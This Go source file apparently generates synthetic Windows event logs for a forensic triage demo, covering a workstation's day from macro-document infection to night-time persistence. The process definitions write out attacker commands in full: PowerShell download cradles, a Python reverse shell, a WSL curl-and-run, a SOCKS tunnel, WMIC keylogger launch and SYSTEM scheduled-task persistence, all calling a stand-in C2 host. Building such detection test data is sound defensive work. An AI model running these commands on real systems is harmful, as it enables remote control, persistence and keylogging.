package demo

import (
	"encoding/base64"
	"fmt"
	"time"

	"triage/internal/evtxwrite"
)

// The processes of the day. Process ids are fixed, as in one boot.
var (
	pServices = proc{0x2b8, servicesExe, `C:\Windows\system32\services.exe`, system}
	pSchedule = proc{0x4f0, svchostExe, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, system}
	pUserinit = proc{0x1120, `C:\Windows\System32\userinit.exe`, `C:\Windows\system32\userinit.exe`, alice}
	pExplorer = proc{0x1134, explorerExe, `C:\Windows\Explorer.EXE`, alice}
	pAdminExp = proc{0x2a10, explorerExe, `C:\Windows\Explorer.EXE`, itadmin}

	pAdminPS  = proc{0x2b44, psExe, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" `, itadmin}
	pAdminCmd = proc{0x2c08, cmdExe, `"C:\Windows\system32\cmd.exe" `, itadmin}

	pWord    = proc{0x1a2c, wordExe, `"` + wordExe + `" /n "` + docPath + `" /o ""`, alice}
	pMacro   = proc{0x1d48, cmdExe, macroCmd, alice}
	pCradle  = proc{0x1e10, psExe, `powershell.exe  -nop -w hidden -enc ` + encoded(cradle), alice}
	pTask    = proc{0x1f64, schtasksExe, `"C:\Windows\system32\schtasks.exe" /create /tn "Microsoft\Windows\WinUpdate" /tr "C:\ProgramData\WinUpdate\update.bat" /sc onlogon /ru SYSTEM /f`, alice}
	pWscript = proc{0x2014, wscriptExe, `"C:\Windows\System32\wscript.exe" //B C:\Users\alice\AppData\Local\Temp\svc.vbs`, alice}
	pCscript = proc{0x20d8, cscriptExe, `"C:\Windows\System32\cscript.exe" //nologo C:\Users\Public\Libraries\sync.js`, alice}
	pRecon   = proc{0x2190, cmdExe, `C:\Windows\system32\cmd.exe /c whoami /all & net group "Domain Admins" /domain`, alice}
	pWhoami  = proc{0x21a4, `C:\Windows\System32\whoami.exe`, `whoami  /all`, alice}
	pNet     = proc{0x21bc, `C:\Windows\System32\net.exe`, `net  group "Domain Admins" /domain`, alice}
	pHandsPS = proc{0x2460, psExe, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" `, alice}

	// The toolkit scene: interpreters from the t.zip kit in C:\Users\Public\t.
	pKitCmd  = proc{0x2610, cmdExe, `"C:\Windows\system32\cmd.exe" `, alice}
	pJava    = proc{0x2654, javaExe, `"` + javaExe + `" -jar C:\Users\Public\t\tun.jar client ` + c2 + `:8443 R:socks`, alice}
	pPython  = proc{0x26a8, kitPython, kitPython + ` -c "import socket,subprocess;s=socket.socket();s.connect(('` + c2 + `',4444));subprocess.Popen(['cmd.exe'],stdin=s,stdout=s,stderr=s)"`, alice}
	pWSL     = proc{0x26f0, wslExe, `"` + wslExe + `" -e bash -c "curl -s http://` + c2 + `/l.sh -o /tmp/l.sh && bash /tmp/l.sh"`, alice}
	pNode    = proc{0x2734, kitNode, kitNode + ` -e "eval(Buffer.from('` + base64.StdEncoding.EncodeToString([]byte(nodePayload)) + `','base64').toString())"`, alice}
	pLua     = proc{0x2788, kitLua, kitLua + ` ` + luaPath, alice}
	pWmic    = proc{0x27c4, wmicExe, `wmic  process call create "` + autoItExe + ` ` + a3xPath + `"`, alice}
	pWmiHost = proc{0x0c5c, wmiPrvSE, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, system}
	pAutoIt  = proc{0x2810, autoItExe, `"` + autoItExe + `" ` + a3xPath, alice}

	pNightCmd = proc{0x3a0c, cmdExe, `C:\Windows\system32\cmd.exe /c "C:\ProgramData\WinUpdate\update.bat"`, system}
	pNightPS  = proc{0x3a58, psExe, `powershell.exe  -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://` + c2 + `/beacon.ps1')"`, system}
	pNightWsh = proc{0x3b1c, wscriptExe, `wscript.exe  //B "C:\WINDOWS\TEMP\svc.vbs"`, system}
)

// eventLogs builds every log of the day: the story and the noise around it.
func eventLogs() logs {
	l := logs{}
	l.noise()
	l.morning()
	l.intrusion()
	l.night()
	return l
}

// noise is the background of any workstation: service processes started
// all day, the Sysmon image loads and connections they make, service state
// changes in the System log.
func (l logs) noise() {
	background := []struct{ image, cmd string }{
		{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe USER`},
		{`C:\Windows\System32\backgroundTaskHost.exe`, `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`},
		{`C:\Windows\System32\SearchProtocolHost.exe`, `"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe3_ Global\UsGthrCtrlFltPipeMssGthrPipe3 1 -2147483646 "Software\Microsoft\Windows Search"`},
		{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`},
		{`C:\Program Files\Windows Defender\MpCmdRun.exe`, `"C:\Program Files\Windows Defender\MpCmdRun.exe" -IdleTask -TaskName WdCleanup`},
		{`C:\Windows\System32\sppsvc.exe`, `C:\Windows\system32\sppsvc.exe`},
	}
	for i := 0; i < 96; i++ { // every 10 minutes from 07:00 to 22:50
		t := Day.Add(7*time.Hour + time.Duration(i)*10*time.Minute + time.Duration(i%7)*1137*time.Millisecond)
		b := background[i%len(background)]
		p := proc{uint32(0x5000 + 4*i), b.image, b.cmd, system}
		l.start(t, p, pServices)
		if i%3 == 0 {
			l.connect(t.Add(900*time.Millisecond), p, "20.190.160.14", 443, "login.live.com")
		}
		if i%8 == 0 {
			l.service(t.Add(2*time.Second), "Windows Update", "running")
			l.service(t.Add(4*time.Minute), "Windows Update", "stopped")
		}
	}
	l.logon(at("07:00:31.200"), system, 5, "-")
}

// morning is the ordinary working day before the intrusion: alice logs on
// and works in Office, itadmin fixes the print spooler from PowerShell and
// checks the network from cmd.
func (l logs) morning() {
	l.logon(at("08:47:12.400"), alice, 2, "127.0.0.1")
	l.start(at("08:47:15.020"), pUserinit, pServices)
	l.start(at("08:47:16.510"), pExplorer, pUserinit)
	l.start(at("08:51:03.000"), proc{0x1230, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" `, alice}, pExplorer)
	l.start(at("09:02:11.000"), proc{0x12f0, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\alice\Documents\Reports\Q1.xlsx"`, alice}, pExplorer)
	l.start(at("09:15:40.000"), proc{0x1388, `C:\Windows\System32\notepad.exe`, `"C:\Windows\system32\NOTEPAD.EXE" C:\Users\alice\Documents\todo.txt`, alice}, pExplorer)

	l.logon(at("09:30:02.900"), itadmin, 10, "10.20.1.15")
	l.start(at("09:30:09.000"), pAdminExp, proc{0x29f0, `C:\Windows\System32\userinit.exe`, `C:\Windows\system32\userinit.exe`, itadmin})
	l.start(at("09:31:10.250"), pAdminPS, pAdminExp)
	l.engine(at("09:31:11.100"), 400, psExe, "ConsoleHost", 1)
	for i, c := range adminHistory[:4] {
		l.scriptBlock(at("09:31:30.000").Add(time.Duration(i)*3*time.Minute), fmt.Sprintf("0c4e2b7a-1f3d-4e5a-9b8c-7d6e5f4a3b%02d", i), []string{c}, "", false)
	}
	l.start(at("09:44:51.700"), proc{0x2b90, `C:\Windows\System32\gpupdate.exe`, `"C:\Windows\system32\gpupdate.exe" /force`, itadmin}, pAdminPS)
	l.start(at("09:52:03.000"), pAdminCmd, pAdminExp)
	l.start(at("09:52:20.000"), proc{0x2c30, `C:\Windows\System32\ipconfig.exe`, `ipconfig  /all`, itadmin}, pAdminCmd)
	l.start(at("09:52:41.000"), proc{0x2c44, `C:\Windows\System32\PING.EXE`, `ping  fs01.corp.example.com`, itadmin}, pAdminCmd)
	l.engine(at("10:22:40.300"), 403, psExe, "ConsoleHost", 1)
	l.start(at("12:10:05.000"), proc{0x1390, `C:\Windows\System32\notepad.exe`, `"C:\Windows\system32\NOTEPAD.EXE" C:\Users\alice\Documents\todo.txt`, alice}, pExplorer)
}

// intrusion is the macro document and what follows from it, 14:01–14:31.
func (l logs) intrusion() {
	l.start(at("14:01:58.090"), pWord, pExplorer)
	l.start(at("14:02:40.311"), pMacro, pWord)
	l.start(at("14:02:40.402"), pCradle, pMacro)
	l.engine(at("14:02:41.200"), 400, pCradle.cmd, "ConsoleHost", 1)
	l.scriptBlock(at("14:02:41.930"), "5d2c7b1e-93a4-4c0f-8e61-2f4b9a0c7d13", []string{cradle}, "", true)
	l.connect(at("14:02:42.610"), pCradle, c2, 80, "-")
	l.scriptBlock(at("14:02:43.050"), "e4a19f2c-6b3d-4d8e-a7f0-51c2b3d4e5f6", stage2, "", true)
	l.start(at("14:03:09.402"), pTask, pCradle)
	l.security(at("14:03:09.690"), 4698, sid("SubjectUserSid", alice.sid), str("SubjectUserName", alice.name),
		str("SubjectDomainName", domain), hex("SubjectLogonId", alice.logonID), str("TaskName", `\Microsoft\Windows\WinUpdate`),
		str("TaskContent", taskXML), evtxwrite.Field{Name: "ClientProcessStartKey", Value: evtxwrite.UInt64(0x2000000000bd2)}, u32("ClientProcessId", pTask.pid),
		u32("ParentProcessId", pCradle.pid), u32("RpcCallClientLocality", 0), str("FQDN", computer))
	l.start(at("14:03:10.517"), pWscript, pCradle)
	l.imageLoad(at("14:03:10.560"), pWscript, `C:\Windows\System32\vbscript.dll`)
	l.connect(at("14:03:13.020"), pWscript, c2, 80, "-")
	l.start(at("14:03:14.210"), pCscript, pWscript)
	l.imageLoad(at("14:03:14.260"), pCscript, `C:\Windows\System32\jscript.dll`)
	l.start(at("14:03:14.930"), pRecon, pCscript)
	l.start(at("14:03:15.010"), pWhoami, pRecon)
	l.start(at("14:03:15.380"), pNet, pRecon)
	l.connect(at("14:03:16.100"), pCscript, c2, 80, "-")
	l.engine(at("14:03:31.800"), 403, pCradle.cmd, "ConsoleHost", 1)

	// The intruder's own console in alice's session: its commands are the
	// end of her PSReadLine history.
	l.start(at("14:20:15.000"), pHandsPS, pExplorer)
	l.engine(at("14:20:16.050"), 400, psExe, "ConsoleHost", 2)
	for i, c := range aliceHistory[3:] {
		l.scriptBlock(at("14:21:02.000").Add(time.Duration(i)*150*time.Second), fmt.Sprintf("a7c3e1f0-2b4d-4e6f-8a9b-0c1d2e3f40%02d", i), []string{c}, "", false)
	}
	l.connect(at("14:21:03.400"), pHandsPS, c2, 80, "-")
	l.engine(at("14:31:07.000"), 403, psExe, "ConsoleHost", 2)

	l.toolkit()
}

// toolkit is the intruder's second console, 14:34–14:45: from a cmd.exe in
// alice's session, the interpreters the t.zip kit brought (portable Python,
// Node and Lua in C:\Users\Public\t) and those already on the host (Java,
// WSL, WMIC) each do one job: a SOCKS tunnel, a reverse shell, a Linux
// stage, a download, the unpacking of an AutoIt keylogger, and its start
// through WMI so that it outlives the console.
func (l logs) toolkit() {
	l.start(at("14:34:10.000"), pKitCmd, pExplorer)
	l.start(at("14:34:52.300"), pJava, pKitCmd)
	l.connect(at("14:34:53.900"), pJava, c2, 8443, "-")
	l.start(at("14:36:20.500"), pPython, pKitCmd)
	l.connect(at("14:36:20.840"), pPython, c2, 4444, "-")
	// What runs inside WSL (curl, bash) is out of sight of Windows logging:
	// only wsl.exe's own start is seen.
	l.start(at("14:38:05.100"), pWSL, pKitCmd)
	l.start(at("14:40:30.700"), pNode, pKitCmd)
	l.start(at("14:42:10.900"), pLua, pKitCmd)
	l.start(at("14:44:00.200"), pWmic, pKitCmd)
	l.start(at("14:44:01.050"), pAutoIt, pWmiHost)
	l.connect(at("14:44:03.400"), pAutoIt, c2, 443, "-")
}

// taskXML is the task the second stage registers, as 4698 logs it.
const taskXML = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\Microsoft\Windows\WinUpdate</URI></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>LeastPrivilege</RunLevel></Principal></Principals>
  <Settings><Hidden>false</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="Author"><Exec><Command>C:\ProgramData\WinUpdate\update.bat</Command></Exec></Actions>
</Task>`

// night: at 22:40 someone logs on as alice over RDP from outside; the
// logon task runs the batch file, which starts the beacon and the VBScript.
func (l logs) night() {
	l.logon(at("22:40:51.600"), user{alice.name, alice.sid, 0x9c4410}, 10, "203.0.113.50")
	l.start(at("22:41:05.120"), pNightCmd, pSchedule)
	l.start(at("22:41:05.900"), pNightPS, pNightCmd)
	l.engine(at("22:41:06.700"), 400, pNightPS.cmd, "ConsoleHost", 1)
	l.scriptBlock(at("22:41:07.050"), "c9d8e7f6-a5b4-4c3d-9e2f-1a0b9c8d7e6f", []string{`IEX (New-Object Net.WebClient).DownloadString('http://` + c2 + `/beacon.ps1')`}, "", true)
	l.connect(at("22:41:07.300"), pNightPS, c2, 80, "-")
	l.start(at("22:41:08.010"), pNightWsh, pNightCmd)
	l.engine(at("22:41:39.400"), 403, pNightPS.cmd, "ConsoleHost", 1)
}
